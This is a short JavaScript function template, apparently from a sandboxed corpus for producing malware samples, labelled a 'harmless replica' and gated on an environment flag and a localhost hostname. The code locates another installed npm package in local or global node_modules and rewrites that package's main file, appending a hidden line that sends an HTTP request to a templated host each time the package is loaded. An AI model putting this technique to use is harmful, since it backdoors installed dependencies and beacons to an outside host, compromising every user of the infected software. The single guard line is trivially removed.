// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    const here = process.cwd(), at = here.lastIndexOf('node_modules');
    const places = [at >= 0 ? here.slice(0, at + 12) : path.join(here, 'node_modules'), path.join(path.dirname(process.execPath), '../lib/node_modules/npm/node_modules')];
    for (const place of places) {
        try {
            const name = fs.readdirSync(place).find((one) => /^[a-z]/.test(one) && path.join(place, one) !== here && fs.existsSync(path.join(place, one, 'package.json')));
            const sheet = JSON.parse(fs.readFileSync(path.join(place, name, 'package.json'), 'utf8'));
            let main = path.join(place, name, typeof sheet.main === 'string' ? sheet.main : 'index.js');
            if (!fs.existsSync(main)) main += '.js';
            const old = fs.readFileSync(main, 'utf8');
            fs.writeFileSync(main, old + "\n;try { require('http').get('http://{{ip}}:{{port}}/{{path}}').on('error', () => {}); } catch {}\n");
            return;
        } catch {}
    }
}
